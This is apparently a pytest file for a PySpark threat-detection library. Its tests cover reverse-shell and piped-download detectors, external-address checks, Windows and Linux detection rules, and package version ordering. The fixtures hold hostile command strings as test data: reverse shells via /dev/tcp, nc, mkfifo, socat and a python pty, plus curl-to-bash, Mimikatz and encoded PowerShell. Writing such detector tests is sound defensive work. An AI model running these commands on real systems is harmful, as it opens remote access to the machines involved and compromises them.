import itertools

import pytest
from pyspark.sql import functions as F

from tracewright.functions import shell, versions
from tracewright.operators import detections


def test_commands(spark):
    rows = [
        ("curl http://a/x | sudo bash", None, True), ("wget -qO- x | tee y | python3 -", None, True), ("bash a | curl x", None, False), ("curl x | grep sh", None, False),
        ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "device", False), ("nc -e /bin/sh 1.2.3.4 9", "netcat", False), ("mkfifo /tmp/f; sh <f | nc host 9 >f", "fifo", False),
        ("python3 -c 'import socket,pty; pty.spawn(1)'", "interpreter", False), ("socat tcp:h:9 exec:sh", "socat", False), ("nc -l 80", None, False), (None, None, None), ("", None, False),
    ]
    df = spark.createDataFrame([(r[0],) for r in rows], "c string")
    got = df.select(shell.reverse_shell(F.col("c")), shell.pipes_download(F.col("c"))).collect()
    assert [tuple(g) for g in got] == [(r[1], r[2]) for r in rows]
    one = df.limit(1).select(shell.executed(F.lit("A=1 nohup /tmp/x -q; sudo sh -c 'ls /a'&&/bin/id")).alias("p"), shell.runs_from_open_dir(F.lit("env /tmp/x")).alias("o"), shell.reverse_shell(F.lit("grep /dev/tcp/ x"), F.lit("grep")).alias("g")).first()
    assert one.p == ["/tmp/x", "ls", "/bin/id"] and one.o and one.g is None


def test_external_addresses(spark):
    want = {"8.8.8.8": True, "127.0.0.1": False, "0.0.0.0": False, "::1": False, "::": False, "2001:db8::1": True, "::ffff:127.0.0.1": False, "::ffff:9.9.9.9": True, "300.1.1.1": False, "host": False, "": False}
    df = spark.createDataFrame([(k,) for k in want], "a string")
    assert {r[0]: r[1] for r in df.select("a", shell.is_external(F.col("a"))).collect()} == want


def test_each_rule(spark):
    seen = [
        dict(id=1, process="a.exe", command="MIMIKATZ x"), dict(id=2, command="schtasks /Create /tn x"), dict(id=3, command="whoami"), dict(id=4, process="powershell.exe", command="powershell -enc AAA"),
        dict(id=5, process="cmd.exe", parent="WINWORD.EXE"), dict(id=6, exe="C:\\Users\\Public\\a.exe"), dict(id=7, action="powershell -w hidden x"), dict(id=8, service="s", unquoted_risk=True),
        dict(id=9, destination_ip="1.2.3.4", destination_port=4444, process="cmd.exe"), dict(id=10, destination_ip="1.2.3.4", destination_port=80, process="cmd.exe"), dict(id=11, process="bash", command="bash -i >& /dev/tcp/1.1.1.1/1"),
        dict(id=12, process="sh", command="curl x | sh"), dict(id=13, exe="/tmp/a"), dict(id=14, exe="/memfd:a", exe_deleted=True), dict(id=15, exe="/usr/bin/a", exe_deleted=True), dict(id=16, exe="/home/a", exe_deleted=True),
        dict(id=17, mechanism="cron", item="i", action="/tmp/x"), dict(id=18, mechanism="ld_preload", item="/l.so"), dict(id=19, kind="network_socket", process="bash", state="Established", remote_ip="9.9.9.9", remote_port=1), dict(id=20),
        dict(id=21, process="bash", exe="/usr/bin/bash", command="x -enc y"), dict(id=22, destination_ip="127.0.0.1", destination_port=80, process="cmd.exe"),
    ]
    schema = "id int, " + ", ".join(f"{k} {v}" for k, v in detections.FIELDS.items())
    df = spark.createDataFrame([{**dict.fromkeys(detections.FIELDS), **r} for r in seen], schema)
    got = {(r.id, r.rule, r.risk) for r in detections.detect(df).collect()}
    names = ["WIN-001a", "WIN-001b", "WIN-001c", "WIN-001d", "WIN-001e", "WIN-001f", "WIN-002", "WIN-004", "WIN-003a", "WIN-003b", "LIN-001a", "LIN-001d", "LIN-001b", "LIN-001e", "LIN-001c", "LIN-001c", "LIN-002a", "LIN-002b", "LIN-003"]
    assert {(i, n) for i, n, _ in got} == {(k + 1, n) for k, n in enumerate(names)}
    assert (15, "LIN-001c", 45.0) in got and (16, "LIN-001c", 80.0) in got
    assert detections.detect(df.select("id")).count() == 0


ORDERS = [
    (versions.debian_key, ["1.0~rc1", "1.0", "1.0-1", "1.0-1+b1", "1.0a", "1.0+dfsg", "1.0.1", "1.2", "1.10", "1:0.5"]),
    (versions.rpm_key, ["1.0~rc1", "1.0", "1.0-1", "1.0-2", "1.0^git1", "1.0.a", "1.0.1", "1.2", "1.10", "2:0.1"]),
    (versions.maven_key, ["1.0-alpha-1", "1.0-beta", "1.0-milestone-2", "1.0-rc1", "1.0-SNAPSHOT", "1.0", "1.0-sp", "1.0-xyz", "1.0.1", "1.2", "1.10"]),
    (versions.composer_key, ["1.0-dev", "1.0-alpha2", "1.0-beta1", "v1.0-RC1", "1.0", "1.0-patch1", "1.0.1", "1.2", "1.10"]),
    (versions.gem_key, ["1.0.a", "1.0.b1", "1.0.rc1", "1.0", "1.0.1.pre", "1.0.1", "1.2", "1.10"]),
    (versions.nuget_key, ["1.0.0-alpha", "1.0.0-Beta.2", "1.0.0-beta.11", "1.0.0", "1.0.0.1", "1.0.1", "1.2", "1.10"]),
    (versions.python_key, ["1.0.dev1", "1.0a1", "1.0b2", "1.0rc1", "1.0", "1.0.post1", "1.1.dev3", "1.1", "1.10", "1!0.1"]),
]


@pytest.mark.parametrize(("key", "order"), ORDERS, ids=["debian", "rpm", "maven", "composer", "gem", "nuget", "python"])
def test_orders_of_versions(spark, key, order):
    df = spark.createDataFrame(list(itertools.product(enumerate(order), repeat=2)), "a struct<i:int,v:string>, b struct<i:int,v:string>")
    wrong = df.where((key(F.col("a.v")) < key(F.col("b.v"))) != (F.col("a.i") < F.col("b.i"))).collect()
    assert not wrong


def test_equal_and_odd_versions(spark):
    df = spark.createDataFrame([("1.0", "1.0-0", "1.0", "1.0.0"), (None, "", "x y", None)], "a string, b string, c string, d string")
    got = df.select(versions.debian_key(F.col("a")) == versions.debian_key(F.col("b")), versions.python_key(F.col("c")) == versions.python_key(F.col("d"))).collect()
    assert tuple(got[0]) == (True, True) and tuple(got[1]) == (None, None)
    one = df.limit(1).select(*(versions.affected(F.lit(v), F.lit("0"), F.lit("2.0"), F.lit(None).cast("string"), "PyPI") for v in ("1.9", "2.0", "odd one"))).first()
    assert tuple(one) == (True, False, None)
